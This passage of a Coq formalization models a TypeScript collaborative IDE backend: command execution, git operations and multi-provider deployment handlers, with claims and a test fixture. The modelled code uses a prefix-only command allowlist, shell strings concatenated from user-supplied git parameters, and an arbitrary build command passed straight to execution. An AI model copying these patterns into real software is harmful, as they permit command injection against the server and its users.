    "yarn install"; "yarn build"; "yarn test"; "yarn lint";
    "pnpm install"; "pnpm build"; "pnpm test"; "pnpm lint";
    "python -m pytest"; "python -m pip install -r requirements.txt";
    "go build"; "go test"; "go mod tidy";
    "cargo build"; "cargo test"; "cargo check" ].

(** command.startsWith(safe) *)
Definition startsWith (command safe : string) : bool := String.prefix safe command.

(** safeCommands.some(safe => command.startsWith(safe)) *)
Definition allowed (command : string) : bool :=
  existsb (fun safe => startsWith command safe) safeCommands.

(** workingDirectory || socket.ideInfo?.workspacePath *)
Definition command_cwd (socket : IDESocket) (data : CommandData) : option string :=
  if truthy (cm_workingDirectory data) then cm_workingDirectory data
  else ide_workspacePath <$> ideInfo socket.

(** socket.on('execute-command', ...) *)
Definition execute_command (socket : IDESocket) (data : CommandData) : M unit :=
  try_catch
    (if negb (truthy (userId socket))
     then socket_emit (sid socket) (EvCommandError "Not authenticated")
     else if negb (allowed (cm_command data))
     then socket_emit (sid socket) (EvCommandError "Command not allowed")
     else
       let cwd := command_cwd socket data in
       socket_emit (sid socket) (EvCommandStarted (cm_command data) cwd) ;;
       out <- execAsync (cm_command data) cwd ;;
       t <- new_Date ;;
       socket_emit (sid socket)
         (EvCommandCompleted (cm_command data) (fst out) (snd out) true t) ;;
       t' <- new_Date ;;
       socket_to (sid socket) (cm_roomId data)
         (EvTeamCommandExecuted (user socket) (cm_command data) true None t'))
    (fun error =>
       console_error ("Command execution error: " +:+ err_message error) ;;
       t <- new_Date ;;
       socket_emit (sid socket)
         (EvCommandCompleted (cm_command data)
            (or_else (err_stdout error) "")
            (or_else (err_stderr error) (err_message error)) false t) ;;
       t' <- new_Date ;;
       socket_to (sid socket) (cm_roomId data)
         (EvTeamCommandExecuted (user socket) (cm_command data) false
            (Some (err_message error)) t')).

(** params?.files?.join(' ') *)
Definition files_joined (params : option GitParams) : option string :=
  String.concat " " <$> (params ≫= gp_files).

(** The switch over [operation]; None is the default branch, which
    throws 'Invalid git operation'. *)
Definition git_command (operation : string) (params : option GitParams) : option string :=
  if String.eqb operation "status" then Some "git status --porcelain"
  else if String.eqb operation "add" then
    Some ("git add " +:+ or_else (files_joined params) ".")
  else if String.eqb operation "commit" then
    Some ("git commit -m " +:+ String (ascii_of_nat 34) "" +:+
          or_else (params ≫= gp_message) "Collaborative commit" +:+
          String (ascii_of_nat 34) "")
  else if String.eqb operation "push" then
    Some ("git push " +:+ or_else (params ≫= gp_remote) "origin" +:+ " " +:+
          or_else (params ≫= gp_branch) "main")
  else if String.eqb operation "pull" then
    Some ("git pull " +:+ or_else (params ≫= gp_remote) "origin" +:+ " " +:+
          or_else (params ≫= gp_branch) "main")
  else if String.eqb operation "branch" then Some "git branch -a"
  else None.

(** socket.on('git-operation', ...) *)
Definition git_operation (socket : IDESocket) (data : GitData) : M unit :=
  try_catch
    (if negb (truthy (userId socket)) ||
        negb (truthy (ide_workspacePath <$> ideInfo socket))
     then socket_emit (sid socket) (EvGitError "IDE not properly connected")
     else
       let workspacePath := ide_workspacePath <$> ideInfo socket in
       command <- match git_command (g_operation data) (g_params data) with
                  | Some c => ret c
                  | None => throw (plain_error "Invalid git operation")
                  end ;;
       out <- execAsync command workspacePath ;;
       socket_emit (sid socket) (EvGitResult (g_operation data) (fst out) (snd out) true) ;;
       prisma (Store.gitOperation_create
                 {| go_userId := default "" (userId socket);
                    go_projectId := g_projectId data;
                    go_operation := g_operation data;
                    go_command := command;
                    go_result := fst out;
                    go_success := true |}) ;;
       t <- new_Date ;;
       socket_to (sid socket) (g_roomId data)
         (EvTeamGitOperation (user socket) (g_operation data) true t))
    (fun error =>
       console_error ("Git operation error: " +:+ err_message error) ;;
       socket_emit (sid socket)
         (EvGitResult (g_operation data)
            (or_else (err_stdout error) "")
            (or_else (err_stderr error) (err_message error)) false)).

End IDEBridge.

(** ** deployment.ts *)

Module Deployment.

Record StartData := {
  sd_token : string; sd_roomId : string; sd_projectId : string;
  sd_config : DeploymentConfig }.

Record CancelData := { cd_token : string; cd_deploymentId : string; cd_roomId : string }.

(** What processDeployment closes over: its arguments, with the files
    and the room that the project was loaded with. *)
Record Ctx := {
  c_deploymentId : string;
  c_project : Project;
  c_files : list ProjectFile;
  c_room : option Room;
  c_config : DeploymentConfig;
  c_user : User;
  c_roomId : string }.

Definition provider_name (p : Provider) : string :=
  match p with
  | vercel => "vercel" | netlify => "netlify" | aws => "aws"
  | heroku => "heroku" | github_pages => "github-pages" | docker => "docker"
  end.

(** config.provider.toUpperCase() *)
Definition provider_upper (p : Provider) : string :=
  match p with
  | vercel => "VERCEL" | netlify => "NETLIFY" | aws => "AWS"
  | heroku => "HEROKU" | github_pages => "GITHUB-PAGES" | docker => "DOCKER"
  end.

(** *** The deployment object *)

Definition with_status (s : Status) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := s; dep_progress := dep_progress d;
     dep_logs := dep_logs d; dep_url := dep_url d; dep_error := dep_error d;
     dep_startTime := dep_startTime d; dep_endTime := dep_endTime d |}.

Definition with_progress (p : Z) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := dep_status d; dep_progress := p;
     dep_logs := dep_logs d; dep_url := dep_url d; dep_error := dep_error d;
     dep_startTime := dep_startTime d; dep_endTime := dep_endTime d |}.

Definition push_log (l : string) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := dep_status d; dep_progress := dep_progress d;
     dep_logs := dep_logs d ++ [l]; dep_url := dep_url d; dep_error := dep_error d;
     dep_startTime := dep_startTime d; dep_endTime := dep_endTime d |}.

Definition with_url (u : option string) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := dep_status d; dep_progress := dep_progress d;
     dep_logs := dep_logs d; dep_url := u; dep_error := dep_error d;
     dep_startTime := dep_startTime d; dep_endTime := dep_endTime d |}.

Definition with_error (e : string) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := dep_status d; dep_progress := dep_progress d;
     dep_logs := dep_logs d; dep_url := dep_url d; dep_error := Some e;
     dep_startTime := dep_startTime d; dep_endTime := dep_endTime d |}.

Definition with_endTime (t : Z) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := dep_status d; dep_progress := dep_progress d;
     dep_logs := dep_logs d; dep_url := dep_url d; dep_error := dep_error d;
     dep_startTime := dep_startTime d; dep_endTime := Some t |}.

(** this.activeDeployments.get(deploymentId) *)
Definition get_deployment (id : string) : M (option DeploymentStatus) :=
  fun w => (Ok (activeDeployments w !! id), w).

(** A field assignment on the deployment object, reached through the
    table. *)
Definition update_deployment (id : string) (f : DeploymentStatus -> DeploymentStatus)
    : M unit :=
  fun w => (Ok tt, set_activeDeployments (alter f id) w).

(** deployment.status = s.  Every such assignment is also entered in
    [statusWrites], the history of the statuses the deployment takes. *)
Definition assign_status (id : string) (s : Status) : M unit :=
  update_deployment id (with_status s) ;;
  (fun w => (Ok tt, set_statusWrites (fun l => l ++ [(id, s)]) w)).

(** this.activeDeployments.set(deploymentId, deployment) *)
Definition set_deployment (id : string) (d : DeploymentStatus) : M unit :=
  (fun w => (Ok tt, set_activeDeployments (<[ id := d ]>) w)) ;;
  (fun w => (Ok tt, set_statusWrites (fun l => l ++ [(id, dep_status d)]) w)).

(** The time stamp of a log line, rendered as the number of
    milliseconds. *)
Definition toISOString (t : Z) : string := pretty t.

(** The closure updateProgress of processDeployment. *)
Definition updateProgress (ctx : Ctx) (status : Status) (progress : Z) (message : string)
    : M unit :=
  assign_status (c_deploymentId ctx) status ;;
  update_deployment (c_deploymentId ctx) (with_progress progress) ;;
  t <- new_Date ;;
  update_deployment (c_deploymentId ctx)
    (push_log ("[" +:+ toISOString t +:+ "] " +:+ message)) ;;
  t' <- new_Date ;;
  nsp_to (c_roomId ctx)
    (EvDeploymentProgress (c_deploymentId ctx) status progress message t').

(** An awaited call of fs/promises. *)
Definition fs_call : M unit :=
  e <- await_ext ;;
  match e with
  | Fine _ _ => ret tt
  | Fault _ _ m => throw (plain_error m)
  end.

(** fileExists: fs.access went through, or was caught. *)
Definition fileExists : M bool :=
  e <- await_ext ;;
  match e with
  | Fine _ _ => ret true
  | Fault _ _ _ => ret false
  end.

(** *** Reading the URL off the provider's output *)

(** \s of a regular expression.  The strings are read as UTF-8: the
    white space of ASCII is one byte; of the others U+00A0 is two bytes,
    and U+1680, U+2000 to U+200A, U+2028, U+2029, U+202F, U+205F, U+3000
    and U+FEFF are three. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (n =? 32)%nat || ((9 <=? n)%nat && (n <=? 13)%nat).

(** A white space character begins the list. *)
Definition space_ahead (l : list ascii) : bool :=
  match l with
  | [] => false
  | a :: t =>
      is_space a ||
      match t with
      | [] => false
      | b :: t' =>
          let x := nat_of_ascii a in
          let y := nat_of_ascii b in
          ((x =? 194) && (y =? 160))%nat ||
          match t' with
          | [] => false
          | c :: _ =>
              let z := nat_of_ascii c in
              ((x =? 225) && (y =? 154) && (z =? 128))%nat ||
              ((x =? 226) && (y =? 128) &&
               (((128 <=? z) && (z <=? 138)) || (z =? 168) || (z =? 169) || (z =? 175)))%nat ||
              ((x =? 226) && (y =? 129) && (z =? 159))%nat ||
              ((x =? 227) && (y =? 128) && (z =? 128))%nat ||
              ((x =? 239) && (y =? 187) && (z =? 191))%nat
          end
      end
  end.

(** [^\s]+ : the characters up to the first white space. *)
Fixpoint take_url (l : list ascii) : list ascii :=
  match l with
  | [] => []
  | c :: r => if space_ahead l then [] else c :: take_url r
  end.

Fixpoint strip_prefix (pre l : list ascii) : option (list ascii) :=
  match pre, l with
  | [], _ => Some l
  | _ :: _, [] => None
  | a :: pre', b :: l' => if Ascii.eqb a b then strip_prefix pre' l' else None
  end.

(** The leftmost match of [lead] followed by https:\/\/[^\s]+ ; the
    result is the part from https on. *)
Fixpoint find_url (lead : list ascii) (l : list ascii) : option (list ascii) :=
  match l with
  | [] => None
  | _ :: r =>
      match strip_prefix (lead ++ list_ascii_of_string "https://") l with
      | Some rest =>
          match take_url rest with
          | [] => find_url lead r
          | body => Some (list_ascii_of_string "https://" ++ body)
          end
      | None => find_url lead r
      end
  end.

Definition url_match (lead stdout : string) : option string :=
  string_of_list_ascii <$> find_url (list_ascii_of_string lead) (list_ascii_of_string stdout).

(** path.join(process.cwd(), 'temp', deploymentId) *)
Definition tempDir (ctx : Ctx) : option string := Some ("temp/" +:+ c_deploymentId ctx).

(** *** The provider steps *)

Definition deployToVercel (ctx : Ctx) : M string :=
  try_catch (execAsync "vercel --version" None ;; ret tt)
    (fun _ => throw (plain_error
                "Vercel CLI not installed. Please install with: npm i -g vercel")) ;;
  hasConfig <- fileExists ;;
  (if negb hasConfig then fs_call else ret tt) ;;
  out <- execAsync "vercel --prod --confirm" (tempDir ctx) ;;
  ret (default ("https://vercel.app/deployment/" +:+ c_deploymentId ctx)
               (url_match "" (fst out))).

Definition deployToNetlify (ctx : Ctx) : M string :=
  try_catch (execAsync "netlify --version" None ;; ret tt)
    (fun _ => throw (plain_error
                "Netlify CLI not installed. Please install with: npm i -g netlify-cli")) ;;
  let buildDir := or_else (outputDirectory (c_config ctx)) "dist" in
  out <- execAsync ("netlify deploy --prod --dir=" +:+ buildDir) (tempDir ctx) ;;
  ret (default ("https://netlify.app/deployment/" +:+ c_deploymentId ctx)
               (url_match "Live Draft URL: " (fst out))).

Definition deployToGitHubPages (ctx : Ctx) : M string :=
  ret ("https://" +:+ default "" (room_name <$> c_room ctx) +:+ ".github.io/"
       +:+ project_name (c_project ctx)).

(** deployToDocker names the image after [project.name], and no
    [project] is in its scope: the evaluation of the template throws. *)
Definition deployToDocker (ctx : Ctx) : M string :=
  hasDockerfile <- fileExists ;;
  (if negb hasDockerfile then fs_call else ret tt) ;;
  throw (plain_error "project is not defined").

(** switch (config.provider) *)
Definition deploy_step (ctx : Ctx) : M string :=
  match provider (c_config ctx) with
  | vercel => deployToVercel ctx
  | netlify => deployToNetlify ctx
  | github_pages => deployToGitHubPages ctx
  | docker => deployToDocker ctx
  | p => throw (plain_error ("Deployment provider " +:+ provider_name p
                             +:+ " not yet implemented"))
  end.

Definition implemented (p : Provider) : bool :=
  match p with
  | vercel | netlify | github_pages | docker => true
  | aws | heroku => false
  end.

(** *** processDeployment, stage by stage

    The task is suspended at an await between two stages, which is
    where another handler can run.  [Pc] names the stage it will run
    when it is resumed; the awaits inside one stage are run together,
    the deployment object being neither read nor written between
    them. *)
Inductive Pc :=
  | AtCreate      (* start-deployment: await prisma.deployment.create *)
  | AtMkdir       (* await fs.mkdir(tempDir) *)
  | AtWriteFiles  (* the loop writing the project files *)
  | AtInstall     (* manifest detection and dependency installation *)
  | AtBuild       (* await execAsync(config.buildCommand) *)
  | AtProvider    (* await this.deployToX(...) *)
  | AtRecord (deploymentUrl : string)   (* await prisma.deployment.update *)
  | AtCleanup     (* await fs.rm(tempDir) *)
  | Finished.

Definition current_logs (id : string) : M (list string) :=
  d <- get_deployment id ;; ret (default [] (dep_logs <$> d)).

Definition current_endTime (id : string) : M (option Z) :=
  d <- get_deployment id ;; ret (d ≫= dep_endTime).

(** The catch block of processDeployment. *)
Definition on_failure (ctx : Ctx) (error : Error) : M unit :=
  let id := c_deploymentId ctx in
  console_error ("Deployment " +:+ id +:+ " failed: " +:+ err_message error) ;;
  assign_status id failed ;;
  update_deployment id (with_error (err_message error)) ;;
  t <- new_Date ;;
  update_deployment id (with_endTime t) ;;
  update_deployment id (push_log ("[ERROR] " +:+ err_message error)) ;;
  logs <- current_logs id ;;
  endTime <- current_endTime id ;;
  prisma (Store.deployment_update id (fun r =>
    {| dr_id := dr_id r; dr_projectId := dr_projectId r; dr_userId := dr_userId r;
       dr_provider := dr_provider r; dr_status := "FAILED"; dr_url := dr_url r;
       dr_config := dr_config r; dr_logs := logs;
       dr_error := Some (err_message error); dr_endedAt := endTime |})) ;;
  t' <- new_Date ;;
  nsp_to (c_roomId ctx)
    (EvTeamDeploymentFailed id (c_user ctx) (err_message error)
       (provider_name (provider (c_config ctx))) t') ;;
  nsp_to (c_roomId ctx) (EvDeploymentError (Some id) (err_message error)).

(** The synchronous head of processDeployment, run by the caller. *)
Definition launch (ctx : Ctx) : M Pc :=
  updateProgress ctx building 10 "Preparing project files..." ;;
  ret AtMkdir.

Fixpoint write_files (files : list ProjectFile) : M unit :=
  match files with
  | [] => ret tt
  | _ :: rest => fs_call ;; fs_call ;; write_files rest
  end.

Definition install_dependencies (ctx : Ctx) : M unit :=
  hasPackageJson <- fileExists ;;
  if hasPackageJson
  then execAsync "npm install" (tempDir ctx) ;;
       updateProgress ctx building 60 "Dependencies installed successfully"
  else
    hasRequirements <- fileExists ;;
    if hasRequirements
    then execAsync "pip install -r requirements.txt" (tempDir ctx) ;;
         updateProgress ctx building 60 "Python dependencies installed successfully"
    else ret tt.

(** updateProgress('deploying', ...), then up to the provider's first await. *)
Definition begin_deploy (ctx : Ctx) : M Pc :=
  updateProgress ctx deploying 80
    ("Deploying to " +:+ provider_name (provider (c_config ctx)) +:+ "...") ;;
  if implemented (provider (c_config ctx)) then ret AtProvider
  else deploy_step ctx ;; ret AtProvider.

Definition stage (ctx : Ctx) (pc : Pc) : M Pc :=
  let id := c_deploymentId ctx in
  match pc with
  | AtCreate | Finished => ret pc
  | AtMkdir =>
      fs_call ;;
      updateProgress ctx building 20 "Writing project files..." ;;
      ret AtWriteFiles
  | AtWriteFiles =>
      write_files (c_files ctx) ;;
      updateProgress ctx building 40 "Installing dependencies..." ;;
      ret AtInstall
  | AtInstall =>
      install_dependencies ctx ;;
      updateProgress ctx building 70 "Building project..." ;;
      if truthy (buildCommand (c_config ctx)) then ret AtBuild
      else begin_deploy ctx
  | AtBuild =>
      out <- execAsync (default "" (buildCommand (c_config ctx))) (tempDir ctx) ;;
      update_deployment id (push_log ("Build output: " +:+ fst out)) ;;
      (if String.eqb (snd out) "" then ret tt
       else update_deployment id (push_log ("Build warnings: " +:+ snd out))) ;;
      begin_deploy ctx
  | AtProvider =>
      deploymentUrl <- deploy_step ctx ;;
      updateProgress ctx success 100
        ("Deployment successful! URL: " +:+ deploymentUrl) ;;
      update_deployment id (with_url (Some deploymentUrl)) ;;
      t <- new_Date ;;
      update_deployment id (with_endTime t) ;;
      ret (AtRecord deploymentUrl)
  | AtRecord deploymentUrl =>
      logs <- current_logs id ;;
      endTime <- current_endTime id ;;
      prisma (Store.deployment_update id (fun r =>
        {| dr_id := dr_id r; dr_projectId := dr_projectId r; dr_userId := dr_userId r;
           dr_provider := dr_provider r; dr_status := "SUCCESS";
           dr_url := Some deploymentUrl; dr_config := dr_config r; dr_logs := logs;
           dr_error := dr_error r; dr_endedAt := endTime |})) ;;
      t <- new_Date ;;
      nsp_to (c_roomId ctx)
        (EvTeamDeploymentSuccess id (c_user ctx) deploymentUrl
           (provider_name (provider (c_config ctx))) t) ;;
      ret AtCleanup
  | AtCleanup =>
      fs_call ;;
      ret Finished
  end.

(** One resumption of the task: the stage inside the try of
    processDeployment; a rejection of the catch block itself is left
    unhandled and ends the task. *)
Definition resume (ctx : Ctx) (pc : Pc) : M Pc :=
  try_catch
    (try_catch (stage ctx pc) (fun error => on_failure ctx error ;; ret Finished))
    (fun _ => ret Finished).

(** *** The socket handlers *)

Section Handlers.

(** require('jsonwebtoken').verify(token, process.env.JWT_SECRET):
    the userId of the payload of a token that verifies against the
    server secret, None for a token on which verify throws. *)
Variable jwt_verify : string -> option string.

Definition verify (token : string) : M string :=
  match jwt_verify token with
  | Some uid => ret uid
  | None => throw (plain_error "invalid token")
  end.

(** prisma.project.findFirst({ where, include: { files: true, room: true } }) *)
Definition project_with_includes (projectId uid : string) (d : Db)
    : option (Project * list ProjectFile * option Room) :=
  (fun p => (p,
             List.filter (fun f => String.eqb (file_projectId f) (project_id p))
                         (db_files d),
             find (fun r => String.eqb (room_id r) (project_roomId p)) (db_rooms d)))
  <$> Store.project_findFirst projectId uid d.

(** start-deployment, from the top to activeDeployments.set: None
    when the request was turned down. *)
Definition start_head (socket : string) (data : StartData) : M (option Ctx) :=
  decoded <- verify (sd_token data) ;;
  user <- prisma (query (Store.user_findUnique decoded)) ;;
  match user with
  | None =>
      socket_emit socket (EvDeploymentError None "Authentication failed") ;;
      ret None
  | Some user =>
      project <- prisma (query (project_with_includes (sd_projectId data)
                                  (user_id user))) ;;
      match project with
      | None =>
          socket_emit socket
            (EvDeploymentError None "Project not found or access denied") ;;
          ret None
      | Some (project, files, room) =>
          socket_join socket (sd_roomId data) ;;
          deploymentId <- randomUUID ;;
          t <- new_Date ;;
          set_deployment deploymentId
            {| dep_id := deploymentId; dep_status := pending; dep_progress := 0;
               dep_logs := []; dep_url := None; dep_error := None;
               dep_startTime := t; dep_endTime := None |} ;;
          ret (Some {| c_deploymentId := deploymentId; c_project := project;
                       c_files := files; c_room := room;
                       c_config := sd_config data; c_user := user;
                       c_roomId := sd_roomId data |})
      end
  end.

(** start-deployment, from prisma.deployment.create on; the call of
    processDeployment runs the head of the task. *)
Definition start_tail (socket : string) (ctx : Ctx) : M Pc :=
  let id := c_deploymentId ctx in
  prisma (Store.deployment_create
            {| dr_id := id; dr_projectId := project_id (c_project ctx);
               dr_userId := user_id (c_user ctx);
               dr_provider := provider_upper (provider (c_config ctx));
               dr_status := "PENDING"; dr_url := None; dr_config := c_config ctx;
               dr_logs := []; dr_error := None; dr_endedAt := None |}) ;;
  deployment <- get_deployment id ;;
  match deployment with
  | Some d => socket_emit socket (EvDeploymentStarted id d)
  | None => ret tt
  end ;;
  t <- new_Date ;;
  socket_to socket (c_roomId ctx)
    (EvTeamDeploymentStarted id (c_user ctx)
       (provider_name (provider (c_config ctx))) t) ;;
  launch ctx.

Definition start_failed (socket : string) (error : Error) : M unit :=
  console_error ("Start deployment error: " +:+ err_message error) ;;
  socket_emit socket (EvDeploymentError None "Failed to start deployment").

(** socket.on('start-deployment', ...): the deployment it started and
    where its task stands, if it started one. *)
Definition start_deployment (socket : string) (data : StartData) : M (option (Ctx * Pc)) :=
  try_catch
    (started <- start_head socket data ;;
     match started with
     | None => ret None
     | Some ctx => pc <- start_tail socket ctx ;; ret (Some (ctx, pc))
     end)
    (fun error => start_failed socket error ;; ret None).

(** deployment.status === 'pending' || deployment.status === 'building' *)
Definition cancellable (d : DeploymentStatus) : bool :=
  match dep_status d with
  | pending | building => true
  | _ => false
  end.

(** socket.on('cancel-deployment', ...) *)
Definition cancel_deployment (socket : string) (data : CancelData) : M unit :=
  let id := cd_deploymentId data in
  try_catch
    (decoded <- verify (cd_token data) ;;
     deployment <- get_deployment id ;;
     match deployment with
     | Some d =>
         if cancellable d
         then
           assign_status id failed ;;
           update_deployment id (with_error "Cancelled by user") ;;
           t <- new_Date ;;
           update_deployment id (with_endTime t) ;;
           t' <- new_Date ;;
           prisma (Store.deployment_update id (fun r =>
             {| dr_id := dr_id r; dr_projectId := dr_projectId r;
                dr_userId := dr_userId r; dr_provider := dr_provider r;
                dr_status := "FAILED"; dr_url := dr_url r; dr_config := dr_config r;
                dr_logs := dr_logs r; dr_error := Some "Cancelled by user";
                dr_endedAt := Some t' |})) ;;
           socket_emit socket (EvDeploymentCancelled id) ;;
           t'' <- new_Date ;;
           socket_to socket (cd_roomId data) (EvTeamDeploymentCancelled id t'')
         else ret tt
     | None => ret tt
     end)
    (fun error =>
       console_error ("Cancel deployment error: " +:+ err_message error) ;;
       socket_emit socket (EvDeploymentError None "Failed to cancel deployment")).

(** *** A deployment under its task and the cancel requests

    What can happen to one deployment once start-deployment has
    entered it in the table: its task is resumed, or a
    cancel-deployment request for it is handled; each at the time
    the step carries. *)
Inductive Step :=
  | Resume (now : Z)
  | Cancel (now : Z) (socket : string) (token : string) (roomId : string).

Definition step (ctx : Ctx) (starter : string) (s : Step) (st : Pc * World) : Pc * World :=
  match s with
  | Resume now =>
      let w := set_clock now (snd st) in
      match fst st with
      | AtCreate =>
          match try_catch (start_tail starter ctx)
                  (fun error => start_failed starter error ;; ret Finished) w with
          | (Ok pc, w') => (pc, w')
          | (Throw _, w') => (Finished, w')
          end
      | pc =>
          match resume ctx pc w with
          | (Ok pc', w') => (pc', w')
          | (Throw _, w') => (Finished, w')
          end
      end
  | Cancel now socket token roomId =>
      (fst st,
       exec_world (cancel_deployment socket
                     {| cd_token := token; cd_deploymentId := c_deploymentId ctx;
                        cd_roomId := roomId |})
                  (set_clock now (snd st)))
  end.

Definition run (ctx : Ctx) (starter : string) (steps : list Step) (st : Pc * World)
    : Pc * World :=
  fold_left (fun st s => step ctx starter s st) steps st.

End Handlers.

(** The statuses written to the deployment [id], in order. *)
Definition statuses_of (id : string) (l : list (string * Status)) : list Status :=
  snd <$> List.filter (fun e => String.eqb (fst e) id) l.

Definition writes_of (id : string) (w : World) : list Status :=
  statuses_of id (statusWrites w).

(** Successive writes of the same status are one status taken. *)
Fixpoint compress (l : list Status) : list Status :=
  match l with
  | [] => []
  | a :: r =>
      match r with
      | b :: _ => if decide (a = b) then compress r else a :: compress r
      | [] => [a]
      end
  end.

(** The sequence of statuses the deployment [id] has taken. *)
Definition status_sequence (id : string) (w : World) : list Status :=
  compress (writes_of id w).

End Deployment.

(** ** Observations on a handler run *)

(** The messages a handler emitted when run on [w]. *)
Definition emitted {A} (c : M A) (w : World) : list Emit :=
  drop (length (outbox w)) (outbox (exec_world c w)).

(** The lines a handler wrote to the console when run on [w]. *)
Definition logged {A} (c : M A) (w : World) : list string :=
  drop (length (console w)) (console (exec_world c w)).

(** The message of the fault the next awaited call will meet, if it
    meets one. *)
Definition next_fault (w : World) : option string :=
  match oracle w with
  | Fault _ _ m :: _ => Some m
  | _ => None
  end.

(** The next [n] awaited calls go through. *)
Fixpoint calls_fine (n : nat) (o : list Ext) : bool :=
  match n, o with
  | O, _ => true
  | S _, [] => true
  | S n', Fine _ _ :: o' => calls_fine n' o'
  | S _, Fault _ _ _ :: _ => false
  end.

Definition to_sender (e : Emit) : bool :=
  match em_target e with
  | ToSender => true
  | _ => false
  end.

Module CollaborationClaims.
Import Collaboration.

(** The caller owns the room or is listed among its members. *)
Definition owns_or_belongs (d : Db) (roomId uid : string) : Prop :=
  exists r, In r (db_rooms d) /\ room_id r = roomId /\
    (room_ownerId r = uid \/
     exists m, In m (db_members d) /\ member_roomId m = roomId /\ member_userId m = uid).

Definition is_public (d : Db) (roomId : string) : Prop :=
  exists r, In r (db_rooms d) /\ room_id r = roomId /\ room_isPublic r = true.

Definition subscribed (w : World) (socket room : string) : Prop :=
  socket ∈ subscribers (adapter w) room.

Definition access_denied (socket : AuthenticatedSocket) : Emit :=
  {| em_from := Some (a_sid socket); em_target := ToSender;
     em_recipients := {[ a_sid socket ]};
     em_event := EvError "Room not found or access denied" |}.

(** The join-room claim as the specification words it, on one attempt. *)
Definition join_claim (socket : AuthenticatedSocket) (roomId : string) (w : World) : Prop :=
  let w' := exec_world (join_room socket roomId) w in
  (subscribed w' (a_sid socket) roomId <->
     owns_or_belongs (db w) roomId (a_userId socket) \/ is_public (db w) roomId) /\
  (~ (owns_or_belongs (db w) roomId (a_userId socket) \/ is_public (db w) roomId) ->
     emitted (join_room socket roomId) w = [access_denied socket] /\
     ~ subscribed w' (a_sid socket) roomId).

Definition is_cursor_broadcast (room : string) (e : Emit) : bool :=
  match em_target e, em_event e with
  | ToRoomOthers r, EvCursorUpdate _ _ _ _ _ _ _ => String.eqb r room
  | _, _ => false
  end.

(** The cursor-update claim as the specification words it. *)
Definition cursor_claim (socket : AuthenticatedSocket) (data : CursorData) (w : World)
    : Prop :=
  forall m, next_fault w = Some m ->
    logged (cursor_update socket data) w <> [] /\
    existsb to_sender (emitted (cursor_update socket data) w) = false /\
    existsb (is_cursor_broadcast (cu_roomId data))
            (emitted (cursor_update socket data) w) = true.

Definition with_room (roomId : string) (data : CodeChangeData) : CodeChangeData :=
  {| cc_roomId := roomId; cc_fileId := cc_fileId data; cc_content := cc_content data;
     cc_changes := cc_changes data |}.

Definition cursor_broadcast (socket : AuthenticatedSocket) (data : CursorData) (w : World)
    : Emit :=
  {| em_from := Some (a_sid socket);
     em_target := ToRoomOthers (cu_roomId data);
     em_recipients := subscribers (adapter w) (cu_roomId data) ∖ {[ a_sid socket ]};
     em_event := EvCursorUpdate (cu_fileId data) (cu_position data) (cu_line data)
                   (cu_column data) (cu_selection data) (a_user socket) (clock w) |}.

Definition a_cursor : CursorData :=
  {| cu_roomId := "r1"; cu_fileId := "f1"; cu_position := 7; cu_line := 1;
     cu_column := 7; cu_selection := None |}.

End CollaborationClaims.

(** ** A small deployment of the system, for concrete runs *)

Module Fixture.

Definition ann : User := {| user_id := "ann"; user_name := "Ann"; user_avatar := None |}.
Definition bob : User := {| user_id := "bob"; user_name := "Bob"; user_avatar := None |}.
Definition eve : User := {| user_id := "eve"; user_name := "Eve"; user_avatar := None |}.

(** Ann owns the public room r1 and Bob is a member of it; Eve owns
    r2 and is a stranger to r1. *)
Definition store : Db :=
  {| db_users := [ann; bob; eve];
     db_rooms := [ {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                      room_isPublic := true |};
                   {| room_id := "r2"; room_name := "den"; room_ownerId := "eve";
                      room_isPublic := false |} ];
     db_members := [ {| member_userId := "bob"; member_roomId := "r1" |} ];
     db_projects := [ {| project_id := "p1"; project_name := "site";
                         project_roomId := "r1" |} ];
     db_files := [ {| file_id := "f1"; file_name := "a.txt"; file_path := "a.txt";
                      file_content := "v0"; file_language := "text";
                      file_projectId := "p1"; file_updatedAt := 50 |} ];
     db_cursors := [];
     db_deployments := [];
     db_gitOperations := [] |}.

(** Bob's and Eve's sockets sit in the channel of r1 and of r2. *)
Definition world : World :=
  {| db := store;
     adapter := {[ "r1" := {[ "s-bob" ]}; "r2" := {[ "s-eve"; "s-bob" ]} ]};
     activeDeployments := ∅;
     ideConnections := [];
     outbox := [];
     console := [];
     clock := 1000;
     oracle := [];
     uuids := ["id-1"; "id-2"];
     spawned := [];
     statusWrites := [] |}.

Definition faulty (m : string) : World := WorldOps.set_oracle [Fault "" "" m] world.

Definition socket_of (u : User) : AuthenticatedSocket :=
  {| a_sid := "s-" +:+ user_id u; a_userId := user_id u; a_user := u |}.

Definition ide_socket_of (u : User) : IDESocket :=
  {| sid := "s-" +:+ user_id u; userId := Some (user_id u); user := Some u;
     ideInfo := Some {| ide_type := "vscode"; ide_version := "1.0";
                        ide_workspacePath := "/home/" +:+ user_id u |} |}.

(** The identity verifier: the tokens of the three users verify. *)
Definition jwt_verify (token : string) : option string :=
  if String.eqb token "tok-ann" then Some "ann"
  else if String.eqb token "tok-bob" then Some "bob"
  else if String.eqb token "tok-eve" then Some "eve"
  else None.

Definition config : DeploymentConfig :=
  {| provider := github_pages; buildCommand := None; outputDirectory := None;
     environmentVariables := []; domain := None; framework := None;
     nodeVersion := None |}.

End Fixture.

Module BridgeClaims.
Import IDEBridge.

(** The connection is authenticated and carries a workspace path, as
    register-ide leaves it. *)
Definition registered (socket : IDESocket) : bool :=
  truthy (userId socket) && truthy (ide_workspacePath <$> ideInfo socket).

Definition is_git_result (e : Emit) : bool :=
  match em_target e, em_event e with
  | ToSender, EvGitResult _ _ _ _ => true
  | _, _ => false
  end.

Definition is_team_git (room : string) (e : Emit) : bool :=
  match em_target e, em_event e with
  | ToRoomOthers r, EvTeamGitOperation _ _ _ _ => String.eqb r room
  | _, _ => false
  end.

(** The git-operation claim as the specification words it: an audit
    record and a broadcast whatever the outcome of the command, and a
    git-result for the caller. *)
Definition git_claim (socket : IDESocket) (data : GitData) (w : World) : Prop :=
  registered socket = true ->
  let w' := exec_world (git_operation socket data) w in
